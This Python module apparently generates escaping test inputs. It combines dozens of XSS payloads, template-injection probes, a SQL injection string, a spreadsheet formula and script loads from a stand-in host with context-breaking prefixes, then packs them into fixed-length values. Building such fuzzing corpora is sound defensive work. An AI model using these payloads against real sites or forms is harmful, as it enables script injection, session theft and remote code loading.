"""Texts that would be markup, script, a template or a command wherever somebody forgot to escape: families × what they break out of."""

FAMILIES = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//e.example/x></script>", "<script\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror=alert`1`>", "<IMG SRC=x ONERROR=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a href=javascript:alert(1)>x</a></svg>",
    "<math><mtext><img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x", "<meta http-equiv=refresh content='0;url=//e.example'>", "<base href=//e.example/>",
    "<link rel=stylesheet href=//e.example>", "<style>@import '//e.example'</style>",
    "<p style=background:url(//e.example)>", "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xmp><img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>",
    " onmouseover=alert(1) x=", " autofocus onfocus=alert(1) x=", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "{{7*191}}",
    "{% debug %}", "${7*191}", "<%= 7*191 %>", "&lt;script&gt;alert(1)&lt;/script&gt;", "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u202e<b>x", "');alert(1);//", "\\x3cscript\\x3ealert(1)", "' OR 1=1 --",
    "=HYPERLINK(\"//e.example\")",
]  # fmt: skip
BREAKS = ["", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "\\\"", "</p></main>"]
STRINGS = [before + text for text in FAMILIES for before in BREAKS]
SHORT = ["<b>x", "<u>", "\"'<>&", "{{1}}", "'>x", "--><i>", "</b>", "&lt;"]


def packed(longest: int) -> list[str]:
    """Values of at most `longest` letters that hold all strings which fit, as many in each as fit."""
    values, now = [], ""
    for text in [*SHORT, *STRINGS]:
        if len(text) > longest:
            continue
        if now and len(now) + 1 + len(text) > longest:
            values.append(now)
            now = ""
        now = f"{now} {text}" if now else text
    return [*values, now] if now else values
